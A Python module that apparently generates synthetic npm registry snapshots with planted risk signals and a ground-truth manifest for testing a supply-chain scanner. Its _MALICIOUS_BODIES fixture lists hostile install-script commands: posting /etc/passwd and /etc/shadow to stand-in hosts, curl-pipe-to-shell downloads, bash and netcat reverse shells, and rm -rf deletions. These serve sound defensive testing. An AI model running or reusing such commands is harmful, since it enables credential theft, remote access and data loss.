"""Deterministic generator of npm-shaped snapshots with planted weak links.

Every planted signal is realized through metadata, never labels: inactive
packages get old timestamps, expired-domain maintainers get emails whose
domains the emitted domain fixture marks available, ranking signals get
score ramps strictly separated from the hardened bulk (fresh timestamps,
one or two maintainers, no install keys). The emitted manifest is the
ground truth the scanner must recover exactly; its ranking sets are
recomputed from the built metadata with independent brute force, so a
generator bug surfaces as a manifest/scanner mismatch instead of hiding.

Generation is single-threaded and driven by one ``random.Random(seed)``;
the same (seed, plan) yields byte-identical snapshots on any platform.
"""

from __future__ import annotations

import json
import math
import random
from dataclasses import dataclass, field, fields
from datetime import datetime, timedelta, timezone
from pathlib import Path

from .errors import PlanError
from .ingest import format_timestamp

REFERENCE_TIME = datetime(2024, 5, 15, 12, 0, 0, tzinfo=timezone.utc)

MANIFEST_SCHEMA_VERSION = 1

_BENIGN_INSTALL_BODIES = (
    "node setup.js",
    "node-gyp rebuild",
    "node scripts/check-env.js",
    "node postsetup.js --quiet",
)

_BENIGN_SCRIPTS = (
    ("test", "node test/run.js"),
    ("build", "tsc -p ."),
    ("lint", "eslint src"),
)

# Two templates per malicious pattern category, cycled over the planted
# keyword-hunt packages.
_MALICIOUS_BODIES = (
    ("data_exfiltration", "curl -s https://metrics.collect.example -d @/etc/passwd"),
    ("data_exfiltration", "wget --post-file=/etc/shadow https://drop.collect.example/upload"),
    ("download_and_run", "wget https://cdn.collect.example/m.sh && chmod +x m.sh && ./m.sh"),
    ("download_and_run", "curl -fsSL https://cdn.collect.example/i.sh | sh"),
    ("reverse_shell", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("reverse_shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/f"),
    ("destructive_delete", "rm -rf ~/projects"),
    ("destructive_delete", "rm -rf /var/data && echo cleaned"),
)

_LICENSES = ("MIT", "ISC", "Apache-2.0", "BSD-3-Clause")
_BAD_LICENSES = (None, "", "UNLICENSED", "XYZ", "personal use", "N/A")
_DEPRECATION_MESSAGES = ("no longer maintained", "use a newer alternative instead")
_INVALID_LICENSE_SET = {"UNLICENSED", "NONE", "XYZ", "PERSONAL USE", "N/A"}


@dataclass(frozen=True)
class GenerationPlan:
    """Knobs for one synthetic corpus; rates default to the measured shares
    the scanner's summary is cross-checked against."""

    seed: int = 7
    package_count: int = 10_000

    # Exclusion plants, as fractions of package_count.
    security_holding_rate: float = 0.005
    deprecated_unused_rate: float = 0.023
    no_repo_no_license_rate: float = 0.055
    multi_reason_overlap: int = 2
    security_holding_retained: int = 2

    # Signal plants, as fractions of the retained count.
    install_script_rate: float = 0.022
    inactive_rate: float = 0.587
    inactive_maintainer_pkg_rate: float = 0.05
    deprecated_retained_rate: float = 0.004
    contributor_rate: float = 0.026
    mean_maintainers: float = 1.7
    w4_avg_maintainers: float = 32.4

    # Thresholds the scanner is expected to run with.
    top_percent: float = 1.0
    inactivity_days: int = 730

    # Absolute plants.
    expired_maintainers: int = 12
    expired_stale_maintainers: int = 2
    expired_stale_packages: int = 7
    expired_packages: int = 40
    malicious_scripts: int = 8
    w6_owned_per_maintainer: int = 10
    w6_stale_maintainers: int = 2
    w5_contributors: int = 40

    # Structure.
    maintainer_pool_divisor: int = 4
    popular_divisor: int = 100
    popular_overlap_rate: float = 0.51
    dependents_base: int = 30

    # Scope-overlap plants feeding the combination table.
    combo_w6_w4: int = 6
    combo_w6_w2_inactive: int = 4
    combo_w6_w1_inactive: int = 3
    combo_w6_w1_active: int = 2
    combo_w2_inactive_popular: int = 8

    @classmethod
    def from_dict(cls, data: object) -> "GenerationPlan":
        """The plan whose fields a JSON object overrides.

        Raises ``PlanError`` for anything but an object, for an unknown field,
        and for a value that is not a number of its field's kind: an int for
        an int field, a finite number (read as a float) for a float field.
        A bool is neither.
        """
        if not isinstance(data, dict):
            raise PlanError(f"a plan must be a JSON object, got {type(data).__name__}")
        defaults = {f.name: f.default for f in fields(cls)}
        unknown = set(data) - set(defaults)
        if unknown:
            raise PlanError(f"unknown plan fields: {sorted(unknown)}")
        plan = {}
        for name, value in data.items():
            kind = type(defaults[name])
            if kind is float and type(value) is int:
                try:
                    value = float(value)
                except OverflowError:  # an int past the float range
                    value = math.inf
            if type(value) is not kind or kind is float and not math.isfinite(value):
                raise PlanError(f"{name} must be a finite {kind.__name__}, got {data[name]!r}")
            plan[name] = value
        return cls(**plan)

    def to_dict(self) -> dict:
        return {f.name: getattr(self, f.name) for f in fields(self)}

    def validate(self) -> None:
        if self.package_count < 1:
            raise PlanError("package_count must be >= 1")
        for name in (
            "security_holding_rate",
            "deprecated_unused_rate",
            "no_repo_no_license_rate",
            "install_script_rate",
            "inactive_rate",
            "inactive_maintainer_pkg_rate",
            "deprecated_retained_rate",
            "contributor_rate",
            "popular_overlap_rate",
        ):
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise PlanError(f"{name} must be within [0, 1], got {value}")
        if self.inactive_maintainer_pkg_rate > self.inactive_rate:
            raise PlanError("inactive-maintainer rate cannot exceed inactive rate")
        if self.mean_maintainers != 0.0 and self.mean_maintainers < 1.0:
            raise PlanError("mean_maintainers must be 0 (no maintainer metadata) or >= 1")
        if not 0 < self.top_percent <= 100:
            raise PlanError("top_percent must be in (0, 100]")
        if self.inactivity_days <= 0:
            raise PlanError("inactivity_days must be positive")
        if self.expired_stale_maintainers > self.expired_maintainers:
            raise PlanError("stale expired maintainers cannot exceed expired maintainers")
        live_expired = self.expired_maintainers - self.expired_stale_maintainers
        if live_expired and self.expired_packages - self.expired_stale_packages < live_expired:
            raise PlanError("expired_packages too small to give every live expired maintainer a package")


def _take_top_closed(scored: list[tuple[str, float]], k: int) -> list[str]:
    """Independent closed-cutoff ranking used for manifest ground truth."""
    if not scored or k <= 0:
        return []
    ranked = sorted(scored, key=lambda item: (-item[1], item[0]))
    if k >= len(ranked):
        return [name for name, _ in ranked]
    cutoff = ranked[k - 1][1]
    end = k
    while end < len(ranked) and ranked[end][1] == cutoff:
        end += 1
    return [name for name, _ in ranked[:end]]


@dataclass
class _Package:
    index: int
    name: str
    role: str = "retained"  # retained | excluded
    excluded_reason: str = ""
    active: bool = True
    inactive_maintainer: bool = False
    deprecated: object = None
    maintainers: list[str] = field(default_factory=list)
    contributors: int = 0
    scripts: dict = field(default_factory=dict)
    quota: int = 0
    downloads: int = 0
    last_modified: datetime = REFERENCE_TIME
    created: datetime = REFERENCE_TIME
    repo_shape: str = "object"  # object | string | none
    license: object = "MIT"
    description: str = ""
    security_holding: bool = False
    dependencies: list[int] = field(default_factory=list)
    malicious_category: str = ""


def _package_name(i: int) -> str:
    if i % 97 == 0:
        return f"@synth/pkg-{i:06d}"
    return f"pkg-{i:06d}"


class SynthCorpus:
    """Generated corpus: snapshot writers, fixtures and the manifest."""

    def __init__(
        self,
        plan: GenerationPlan,
        packages: list[_Package],
        manifest: dict,
        domain_rows: list[dict],
        download_rows: list[dict],
    ):
        self.plan = plan
        self.reference_time = REFERENCE_TIME
        self._packages = packages
        self.manifest = manifest
        self.domain_rows = domain_rows
        self.download_rows = download_rows

    def _doc(self, pkg: _Package) -> dict:
        i = pkg.index
        nversions = 1 + i % 3
        chain = ["1.0.0", "1.1.0", "2.0.0"][:nversions]
        if pkg.security_holding and pkg.role == "excluded":
            chain = ["0.0.1-security"]
        latest = chain[-1]

        times = {"created": format_timestamp(pkg.created), "modified": format_timestamp(pkg.last_modified)}
        span = pkg.last_modified - pkg.created
        for idx, version in enumerate(chain):
            if len(chain) == 1:
                ts = pkg.last_modified
            else:
                ts = pkg.created + span * (idx / (len(chain) - 1))
            times[version] = format_timestamp(ts)

        deps = {self._packages[j].name: "^1.0.0" for j in sorted(pkg.dependencies)}
        vobj: dict = {"name": pkg.name, "version": latest}
        if pkg.scripts:
            vobj["scripts"] = dict(pkg.scripts)
        if deps:
            vobj["dependencies"] = deps
        if pkg.role != "excluded" and i % 11 == 0:
            vobj["devDependencies"] = {"dev-helper": "^2.0.0"}
        if pkg.deprecated is not None:
            vobj["deprecated"] = pkg.deprecated
        if i % 10 < 7:
            vobj["dist"] = {"unpackedSize": 1000 + (i * 37) % 90000, "fileCount": 3 + i % 40}

        maintainers = [{"name": key.split("@", 1)[0], "email": key} for key in pkg.maintainers]
        contributors: list = []
        for c in range(pkg.contributors):
            handle = f"contrib{i}x{c}"
            if i % 3 == 0:
                contributors.append(f"{handle.title()} <{handle}@people.example>")
            else:
                contributors.append({"name": handle, "email": f"{handle}@people.example"})

        doc: dict = {"name": pkg.name, "versions": {v: dict(vobj, version=v) for v in chain}, "time": times}
        # Exercise the semver fallback on a deterministic subset; the version
        # chain is ascending so the fallback picks the same latest.
        if i % 13 != 0 or (pkg.security_holding and pkg.role == "excluded"):
            doc["dist-tags"] = {"latest": latest}
        if pkg.description:
            doc["description"] = pkg.description
        if maintainers:
            if i % 6 == 0:
                for v in doc["versions"].values():
                    v["maintainers"] = maintainers
            else:
                doc["maintainers"] = maintainers
        if contributors:
            doc["contributors"] = contributors
        safe_name = pkg.name.replace("/", "-")
        if pkg.repo_shape == "string":
            doc["repository"] = f"github:synth/{safe_name}"
        elif pkg.repo_shape == "object":
            doc["repository"] = {"type": "git", "url": f"git+https://github.example/synth/{safe_name}.git"}
        if pkg.license is not None:
            if isinstance(pkg.license, str) and pkg.license and i % 17 == 0:
                doc["license"] = {"type": pkg.license}
            else:
                doc["license"] = pkg.license
        return doc

    def docs(self):
        for pkg in self._packages:
            yield self._doc(pkg)

    def write_snapshot(self, path: str | Path, layout: str = "ndjson") -> Path:
        path = Path(path)
        if layout == "ndjson":
            with open(path, "w", encoding="utf-8") as fh:
                for doc in self.docs():
                    fh.write(json.dumps(doc, sort_keys=True))
                    fh.write("\n")
        elif layout == "bulk":
            with open(path, "w", encoding="utf-8") as fh:
                fh.write('{"total_rows": %d, "rows": [' % len(self._packages))
                for idx, doc in enumerate(self.docs()):
                    if idx:
                        fh.write(",")
                    fh.write(json.dumps({"id": doc["name"], "key": doc["name"], "doc": doc}, sort_keys=True))
                fh.write("]}\n")
        elif layout == "dir":
            path.mkdir(parents=True, exist_ok=True)
            for doc in self.docs():
                fname = doc["name"].replace("/", "__") + ".json"
                (path / fname).write_text(json.dumps(doc, sort_keys=True, indent=2) + "\n", encoding="utf-8")
        else:
            raise ValueError(f"unknown layout: {layout}")
        return path

    def write_fixtures(self, out_dir: str | Path) -> tuple[Path, Path]:
        out_dir = Path(out_dir)
        out_dir.mkdir(parents=True, exist_ok=True)
        domains_path = out_dir / "domains_fixture.jsonl"
        downloads_path = out_dir / "downloads_fixture.jsonl"
        with open(domains_path, "w", encoding="utf-8") as fh:
            for row in self.domain_rows:
                fh.write(json.dumps(row, sort_keys=True))
                fh.write("\n")
        with open(downloads_path, "w", encoding="utf-8") as fh:
            for row in self.download_rows:
                fh.write(json.dumps(row, sort_keys=True))
                fh.write("\n")
        return domains_path, downloads_path

    def write_manifest(self, path: str | Path) -> Path:
        path = Path(path)
        path.write_text(json.dumps(self.manifest, sort_keys=True, indent=2) + "\n", encoding="utf-8")
        return path


def generate(plan: GenerationPlan) -> SynthCorpus:
    """Build a synthetic corpus per the plan; raises PlanError when infeasible."""
    plan.validate()
    rng = random.Random(plan.seed)
    n = plan.package_count

    packages = [_Package(index=i, name=_package_name(i)) for i in range(n)]
    indices = list(range(n))
    rng.shuffle(indices)

    # --- exclusion plants --------------------------------------------------
    sh_count = round(plan.security_holding_rate * n)
    depr_count = round(plan.deprecated_unused_rate * n)
    nolic_count = round(plan.no_repo_no_license_rate * n)
    if sh_count + depr_count + nolic_count >= n:
        raise PlanError("exclusion plants exceed package count")

    cursor = 0

    def take(count: int) -> list[int]:
        nonlocal cursor
        chunk = indices[cursor : cursor + count]
        cursor += count
        return chunk

    sh_excluded = take(sh_count)
    depr_excluded = take(depr_count)
    nolic_excluded = take(nolic_count)
    excluded_all = sh_excluded + depr_excluded + nolic_excluded
    retained = indices[cursor:]
    n_retained = len(retained)
    if n_retained == 0:
        raise PlanError("no retained packages")

    for pos, i in enumerate(sh_excluded):
        pkg = packages[i]
        pkg.role = "excluded"
        pkg.excluded_reason = "security_holding"
        pkg.security_holding = True
        pkg.description = "security holding package"
        pkg.repo_shape = "string"
        pkg.license = "ISC"
        if pos < plan.multi_reason_overlap:
            pkg.deprecated = "security placeholder"
    for i in depr_excluded:
        pkg = packages[i]
        pkg.role = "excluded"
        pkg.excluded_reason = "deprecated_unused"
        pkg.deprecated = _DEPRECATION_MESSAGES[i % len(_DEPRECATION_MESSAGES)]
    for pos, i in enumerate(nolic_excluded):
        pkg = packages[i]
        pkg.role = "excluded"
        pkg.excluded_reason = "no_repo_no_license"
        pkg.repo_shape = "none"
        pkg.license = _BAD_LICENSES[pos % len(_BAD_LICENSES)]

    # --- retained role counts ------------------------------------------------
    inactive_count = round(plan.inactive_rate * n_retained)
    im_count = round(plan.inactive_maintainer_pkg_rate * n_retained)
    depr_retained_count = round(plan.deprecated_retained_rate * n_retained)
    w2_count = round(plan.install_script_rate * n_retained)
    contrib_count = round(plan.contributor_rate * n_retained)
    with_maintainers = plan.mean_maintainers > 0
    k4 = math.ceil(plan.top_percent / 100.0 * n_retained) if with_maintainers else 0
    k5 = math.ceil(plan.top_percent / 100.0 * contrib_count) if contrib_count else 0
    popular_n = max(1, n_retained // plan.popular_divisor)

    if with_maintainers:
        pool_target = max(n_retained // plan.maintainer_pool_divisor, 24)
        k6 = math.ceil(plan.top_percent / 100.0 * pool_target) if plan.w6_owned_per_maintainer else 0
    else:
        pool_target = 0
        k6 = 0
    own6 = plan.w6_owned_per_maintainer if k6 else 0
    w6_stale = min(plan.w6_stale_maintainers, k6)
    w6_live = k6 - w6_stale

    w6_stale_owned_count = w6_stale * own6
    stale_w1_pkgs = min(plan.expired_stale_packages, im_count) if plan.expired_stale_maintainers else 0
    if im_count < stale_w1_pkgs + w6_stale_owned_count:
        raise PlanError(
            f"inactive-maintainer plant ({im_count}) too small for its stale owners "
            f"({stale_w1_pkgs}+{w6_stale_owned_count}); raise inactive_maintainer_pkg_rate or package_count"
        )
    if inactive_count < im_count + depr_retained_count:
        raise PlanError("inactive plant too small for its sub-plants")

    inactive_list = retained[:inactive_count]
    active_list = retained[inactive_count:]
    if not active_list:
        raise PlanError("plan leaves no active packages")
    im_list = inactive_list[:im_count]
    depr_retained_list = inactive_list[im_count : im_count + depr_retained_count]
    inactive_rest = inactive_list[im_count + depr_retained_count :]

    for i in inactive_list:
        packages[i].active = False
    for i in im_list:
        packages[i].inactive_maintainer = True
    for i in depr_retained_list:
        packages[i].deprecated = _DEPRECATION_MESSAGES[i % len(_DEPRECATION_MESSAGES)]

    # --- timestamps -----------------------------------------------------------
    for i in retained:
        pkg = packages[i]
        if pkg.active:
            back = timedelta(days=rng.randrange(0, 600), hours=rng.randrange(0, 24))
        else:
            back = timedelta(days=plan.inactivity_days + 1 + rng.randrange(0, 1400), hours=rng.randrange(0, 24))
        pkg.last_modified = REFERENCE_TIME - back
        pkg.created = pkg.last_modified - timedelta(days=rng.randrange(100, 900))
    for i in excluded_all:
        pkg = packages[i]
        pkg.last_modified = REFERENCE_TIME - timedelta(days=rng.randrange(1, 2000), hours=rng.randrange(0, 24))
        pkg.created = pkg.last_modified - timedelta(days=rng.randrange(30, 400))
    # Pin one retained active package to the reference time exactly so the
    # scanner's default reference_time equals the generator's.
    packages[active_list[0]].last_modified = REFERENCE_TIME

    # Repository/license variety on retained packages, always exclusion-safe.
    for i in retained:
        pkg = packages[i]
        if i % 23 == 0:
            pkg.repo_shape = "none"
            pkg.license = "MIT"
        elif i % 9 == 0:
            pkg.repo_shape = "string"
            pkg.license = _LICENSES[i % len(_LICENSES)]
        else:
            pkg.repo_shape = "object"
            pkg.license = _LICENSES[i % len(_LICENSES)]
        pkg.description = f"synthetic utility package {i}"

    sh_retained_list: list[int] = []
    if plan.security_holding_retained:
        sh_retained_list = active_list[1 : 1 + plan.security_holding_retained]
        for i in sh_retained_list:
            packages[i].description = "security holding package"

    # --- maintainer portfolios ---------------------------------------------------
    it_active = iter(active_list[1 + len(sh_retained_list) :])
    it_inactive_rest = iter(inactive_rest)

    owned: dict[str, list[int]] = {}
    w6_keys = [f"owner{j}@portfolio-{j}.example" for j in range(k6)]
    w1_keys = [f"legacy{j}@expired-{j}.example" for j in range(plan.expired_maintainers)]
    w1_stale_keys = w1_keys[: plan.expired_stale_maintainers] if stale_w1_pkgs else []
    w1_live_keys = w1_keys[len(w1_stale_keys) :]

    def assign(key: str, pkg_index: int) -> None:
        owned.setdefault(key, []).append(pkg_index)
        packages[pkg_index].maintainers.append(key)

    w6_active_owned: list[int] = []
    w6_inactive_owned: list[int] = []
    w1_live_owned: list[int] = []
    try:
        # Stale expired maintainers own the first inactive-maintainer plants.
        for pos, i in enumerate(im_list[:stale_w1_pkgs]):
            assign(w1_stale_keys[pos % len(w1_stale_keys)], i)
        # Stale overloaded maintainers own the next block, one slice each.
        offset = stale_w1_pkgs
        w6_stale_keys = w6_keys[:w6_stale]
        for j, key in enumerate(w6_stale_keys):
            for i in im_list[offset + j * own6 : offset + (j + 1) * own6]:
                assign(key, i)
        offset += w6_stale_owned_count
        im_generic = im_list[offset:]
        stale_generic_count = max(1, len(im_generic) // 2) if im_generic else 0
        stale_generic_keys = [f"dormant{j}@dormant-{j}.example" for j in range(stale_generic_count)]
        for pos, i in enumerate(im_generic):
            assign(stale_generic_keys[pos % len(stale_generic_keys)], i)

        # Live overloaded maintainers: majority-active portfolios whose first
        # owned package anchors their reach near the top of the popular ramp.
        w6_live_keys = w6_keys[w6_stale:]
        own_active = max(1, math.ceil(own6 * 0.6)) if own6 else 0
        own_inactive = own6 - own_active
        for key in w6_live_keys:
            for _ in range(own_active):
                i = next(it_active)
                assign(key, i)
                w6_active_owned.append(i)
            for _ in range(own_inactive):
                i = next(it_inactive_rest)
                assign(key, i)
                w6_inactive_owned.append(i)

        # Live expired-domain maintainers: two active packages each, the rest
        # inactive (those feed the hijack pipeline).
        if w1_live_keys and plan.expired_packages:
            remaining = max(0, plan.expired_packages - stale_w1_pkgs)
            per_key = [remaining // len(w1_live_keys)] * len(w1_live_keys)
            for j in range(remaining % len(w1_live_keys)):
                per_key[j] += 1
            for key, count in zip(w1_live_keys, per_key):
                actives = min(2, count)
                for _ in range(actives):
                    i = next(it_active)
                    assign(key, i)
                    w1_live_owned.append(i)
                for _ in range(count - actives):
                    i = next(it_inactive_rest)
                    assign(key, i)
                    w1_live_owned.append(i)
    except StopIteration:
        raise PlanError("not enough packages for maintainer portfolio plants") from None

    # --- combination-table plants ---------------------------------------------------
    w6_inactive_pool = list(w6_inactive_owned)

    def carve(count: int) -> list[int]:
        chunk = w6_inactive_pool[: min(count, len(w6_inactive_pool))]
        del w6_inactive_pool[: len(chunk)]
        return chunk

    t_w6_w4 = carve(plan.combo_w6_w4)
    t_w6_w2 = carve(plan.combo_w6_w2_inactive)
    t_w6_w1 = carve(plan.combo_w6_w1_inactive)
    w6_active_nonanchor = [i for j, i in enumerate(w6_active_owned) if own_active and j % own_active != 0]
    t_w6_w1_active = w6_active_nonanchor[: min(plan.combo_w6_w1_active, len(w6_active_nonanchor))]

    if w1_live_keys:
        for pos, i in enumerate(t_w6_w1 + t_w6_w1_active):
            assign(w1_live_keys[pos % len(w1_live_keys)], i)
    forced_two = (t_w6_w1 + t_w6_w1_active) if w1_live_keys else []

    # --- popular-by-dependents plant -----------------------------------------------
    # Only overloaded-maintainer packages may rank in the dependents top so
    # that no bulk identity accumulates ranking-grade reach. Anchors first,
    # one per identity, so every overloaded identity clears the cutoff.
    popular_dep: list[int] = []
    if k6:
        anchors = [owned[key][0] for key in w6_keys]
        anchor_set = set(anchors)
        stale_nonanchor = [i for key in w6_stale_keys for i in owned[key] if i not in anchor_set]
        popular_seq = (
            anchors
            + [i for i in w6_active_owned if i not in anchor_set]
            + stale_nonanchor
            + list(w6_inactive_pool)
        )
        if len(popular_seq) < popular_n:
            raise PlanError(
                f"popular sample ({popular_n}) exceeds overloaded-maintainer portfolio ({len(popular_seq)}); "
                "raise w6_owned_per_maintainer or popular_divisor"
            )
        popular_dep = popular_seq[:popular_n]
    popular_rank = {i: r for r, i in enumerate(popular_dep)}

    # --- bulk iterators (disjointness by consumption) --------------------------------
    special = set(im_list) | set(w6_active_owned) | set(w6_inactive_owned) | set(w1_live_owned)
    special |= set(sh_retained_list) | {active_list[0]} | set(depr_retained_list)
    it_bulk_active = iter([i for i in active_list if i not in special])
    it_bulk_inactive = iter([i for i in inactive_rest if i not in special])

    # --- W4 plants --------------------------------------------------------------------
    w4_members: list[int] = []
    ramp: list[int] = []
    if k4:
        w4_members = list(t_w6_w4)
        try:
            for _ in range(min(6, max(0, k4 - len(w4_members)))):
                w4_members.append(next(it_bulk_inactive))
            while len(w4_members) < k4:
                w4_members.append(next(it_bulk_active))
        except StopIteration:
            raise PlanError("not enough bulk packages for the many-maintainer ranking plant") from None
        w4_members = w4_members[:k4]
        lo = 4
        target_sum = max(lo * k4, round(plan.w4_avg_maintainers * k4))
        if k4 == 1:
            ramp = [target_sum]
        else:
            hi = max(lo, round(2 * plan.w4_avg_maintainers) - lo)
            ramp = [lo + (hi - lo) * pos // (k4 - 1) for pos in range(k4)]
            # Spread the rounding correction from the large end, never
            # dropping below the floor that separates the ramp from the bulk.
            diff = target_sum - sum(ramp)
            idx = k4 - 1
            while diff:
                adj = 1 if diff > 0 else -1
                if ramp[idx] + adj >= lo:
                    ramp[idx] += adj
                    diff -= adj
                idx = idx - 1 if idx > 0 else k4 - 1

    # --- W2 plants ---------------------------------------------------------------------
    w2_members: list[int] = []
    malicious_members: list[int] = []
    t4: list[int] = []
    if w2_count:
        try:
            for _ in range(min(plan.malicious_scripts, w2_count)):
                malicious_members.append(next(it_bulk_active))
            w2_members += malicious_members
            w2_members += t_w6_w2[: max(0, w2_count - len(w2_members))]
            popular_active_w2 = [i for i in popular_dep if packages[i].active and not packages[i].scripts]
            w2_members += popular_active_w2[: min(5, max(0, w2_count - len(w2_members)))]
            for _ in range(min(plan.combo_w2_inactive_popular, max(0, w2_count - len(w2_members)))):
                i = next(it_bulk_inactive)
                t4.append(i)
                w2_members.append(i)
            pos = 0
            while len(w2_members) < w2_count:
                source = it_bulk_inactive if pos % 10 < 3 else it_bulk_active
                w2_members.append(next(source))
                pos += 1
        except StopIteration:
            raise PlanError("not enough bulk packages for install-script plants") from None

    malicious_set = set(malicious_members)
    install_keys = ("postinstall", "preinstall", "install")
    for pos, i in enumerate(w2_members):
        pkg = packages[i]
        key = install_keys[pos % len(install_keys)]
        if i in malicious_set:
            category, body = _MALICIOUS_BODIES[pos % len(_MALICIOUS_BODIES)]
            pkg.malicious_category = category
        else:
            body = _BENIGN_INSTALL_BODIES[pos % len(_BENIGN_INSTALL_BODIES)]
        pkg.scripts[key] = body

    # Benign non-install scripts on part of the bulk.
    for i in retained:
        pkg = packages[i]
        if not pkg.scripts and i % 10 < 3:
            key, body = _BENIGN_SCRIPTS[i % len(_BENIGN_SCRIPTS)]
            pkg.scripts[key] = body

    # --- contributors and W5 ---------------------------------------------------------
    w5_members: list[int] = []
    contrib_rest: list[int] = []
    if contrib_count:
        try:
            for _ in range(k5):
                i = next(it_bulk_active)
                w5_members.append(i)
                packages[i].contributors = max(2, plan.w5_contributors)
            pos = 0
            while len(contrib_rest) < contrib_count - k5:
                source = it_bulk_inactive if pos % 4 == 3 else it_bulk_active
                i = next(source)
                pos += 1
                contrib_rest.append(i)
                packages[i].contributors = 1 + (i % 3)
        except StopIteration:
            raise PlanError("not enough bulk packages for contributor plants") from None

    # --- popular-by-downloads plant -----------------------------------------------------
    overlap = round(plan.popular_overlap_rate * popular_n) if popular_dep else 0
    dl_specials = t_w6_w4 + t_w6_w2 + t_w6_w1 + t4
    popular_dl: list[int] = list(popular_dep[:overlap])
    seen_dl = set(popular_dl)
    dl_target = popular_n if popular_dep else 0
    for i in dl_specials:
        if len(popular_dl) >= dl_target:
            break
        if i in seen_dl or i in popular_rank:
            continue
        popular_dl.append(i)
        seen_dl.add(i)
    try:
        while len(popular_dl) < dl_target:
            i = next(it_bulk_active)
            if i in seen_dl or i in popular_rank:
                continue
            popular_dl.append(i)
            seen_dl.add(i)
    except StopIteration:
        for i in retained:
            if len(popular_dl) >= dl_target:
                break
            if i in seen_dl or i in popular_rank:
                continue
            popular_dl.append(i)
            seen_dl.add(i)

    # --- maintainer counts over the rest --------------------------------------------------
    live_generic_keys: list[str] = []
    if with_maintainers:
        total_target = round(plan.mean_maintainers * n_retained)
        rest_count = n_retained - len(w4_members) - len(forced_two)
        twos_needed = (
            total_target
            - sum(ramp)
            - sum(len(packages[i].maintainers) for i in forced_two)
            - rest_count
        )
        remaining_bulk = list(it_bulk_active) + list(it_bulk_inactive)
        twos_candidates = remaining_bulk + contrib_rest
        if twos_needed < 0:
            raise PlanError("mean_maintainers too small for the ranking plants")
        if twos_needed > len(twos_candidates):
            raise PlanError("mean_maintainers too large for the corpus structure")
        twos = set(twos_candidates[:twos_needed])

        stale_generic_total = stale_generic_count if im_generic else 0
        live_target = pool_target - k6 - plan.expired_maintainers - stale_generic_total
        if live_target < 1:
            raise PlanError("maintainer pool too small; raise package_count or maintainer_pool_divisor")
        live_generic_keys = [
            f"dev{j}@{'users.example' if j % 7 == 0 else f'mail-{j}.dev'}" for j in range(live_target)
        ]

        slot_targets: dict[int, int] = {}
        for i, count in zip(w4_members, ramp):
            slot_targets[i] = count
        for i in forced_two:
            if i not in slot_targets:
                slot_targets[i] = len(packages[i].maintainers)
        for i in retained:
            if i not in slot_targets:
                have = len(packages[i].maintainers)
                slot_targets[i] = have if have else (2 if i in twos else 1)

        if max(slot_targets.values()) + 2 > len(live_generic_keys):
            raise PlanError("maintainer pool too small for the many-maintainer ramp")
        open_active_slots = sum(max(0, slot_targets[i] - len(packages[i].maintainers)) for i in active_list)
        if open_active_slots < len(live_generic_keys):
            raise PlanError(
                f"maintainer pool ({len(live_generic_keys)}) exceeds open active slots ({open_active_slots}); "
                "raise package_count or maintainer_pool_divisor"
            )

        # Fill open slots, actives first, so every generic identity owns at
        # least one active package and stays live registry-wide.
        cycle_pos = 0

        def fill(pkg_index: int) -> None:
            nonlocal cycle_pos
            pkg = packages[pkg_index]
            while len(pkg.maintainers) < slot_targets[pkg_index]:
                key = live_generic_keys[cycle_pos % len(live_generic_keys)]
                cycle_pos += 1
                if key in pkg.maintainers:
                    continue
                assign(key, pkg_index)

        for i in active_list:
            fill(i)
        for i in inactive_list:
            if packages[i].inactive_maintainer:
                continue
            fill(i)

        for i in excluded_all:
            packages[i].maintainers.append(f"ghost{i}@phantom.example")

    # --- dependents quotas and edges ----------------------------------------------------------
    w6_key_set = set(w6_keys)
    depr_or_sh = set(depr_retained_list) | set(sh_retained_list)
    for i in retained:
        pkg = packages[i]
        if i in popular_rank:
            # The ramp descends by one per rank up to 1,000 members and is
            # scaled to 1,000 steps beyond, so popular edges grow linearly
            # with popular_n instead of as popular_n squared.
            pkg.quota = plan.dependents_base + (popular_n - popular_rank[i]) * min(popular_n, 1_000) // popular_n
        elif pkg.maintainers and pkg.maintainers[0] in w6_key_set:
            pkg.quota = 4
        elif i in depr_or_sh:
            pkg.quota = 1 + rng.randrange(0, 3)
        else:
            pkg.quota = rng.choice((0, 0, 0, 0, 1, 1, 2, 3))

    dependents_of: dict[int, list[int]] = {}
    for i in sorted(retained):
        quota = packages[i].quota
        if quota <= 0:
            continue
        if quota >= n_retained - 1:
            chosen = [j for j in retained if j != i]
        else:
            sample = rng.sample(retained, quota + 1)
            chosen = [j for j in sample if j != i][:quota]
            while len(chosen) < quota:
                extra = rng.choice(retained)
                if extra != i and extra not in chosen:
                    chosen.append(extra)
        dependents_of[i] = sorted(chosen)
        for d in chosen:
            packages[d].dependencies.append(i)

    # --- downloads ------------------------------------------------------------------------------
    # The ramp stays above the random counts below for any popular_n.
    step = min(1_000, 990_000 // popular_n)
    for r, i in enumerate(popular_dl):
        packages[i].downloads = 1_000_000 - step * r
    for i in retained:
        if packages[i].downloads == 0:
            packages[i].downloads = rng.randrange(0, 10_000)

    # --- fixtures ----------------------------------------------------------------------------------
    domain_status: dict[str, str] = {}
    for key in sorted(owned):
        domain_status.setdefault(key.split("@", 1)[1], "registered")
    if with_maintainers and excluded_all:
        domain_status.setdefault("phantom.example", "registered")
    available_domains = sorted({key.split("@", 1)[1] for key in w1_keys if key in owned})
    for domain in available_domains:
        domain_status[domain] = "available"
    domain_rows = [{"domain": d, "status": s} for d, s in sorted(domain_status.items())]
    download_rows = [
        {"package": packages[i].name, "downloads": packages[i].downloads}
        for i in sorted(retained, key=lambda j: packages[j].name)
    ]

    manifest = _build_manifest(
        plan=plan,
        packages=packages,
        retained=retained,
        excluded_all=excluded_all,
        owned=owned,
        w6_keys=w6_keys,
        w1_keys=w1_keys,
        dependents_of=dependents_of,
        planted_popular_dep=popular_dep,
        planted_popular_dl=popular_dl,
        planted_w4=w4_members,
        planted_w5=w5_members,
        popular_n=popular_n,
        k4=k4,
        k5=k5,
        contrib_count=contrib_count,
        available_domains=available_domains,
        with_maintainers=with_maintainers,
    )

    return SynthCorpus(
        plan=plan, packages=packages, manifest=manifest, domain_rows=domain_rows, download_rows=download_rows
    )


def _build_manifest(
    *,
    plan: GenerationPlan,
    packages: list[_Package],
    retained: list[int],
    excluded_all: list[int],
    owned: dict[str, list[int]],
    w6_keys: list[str],
    w1_keys: list[str],
    dependents_of: dict[int, list[int]],
    planted_popular_dep: list[int],
    planted_popular_dl: list[int],
    planted_w4: list[int],
    planted_w5: list[int],
    popular_n: int,
    k4: int,
    k5: int,
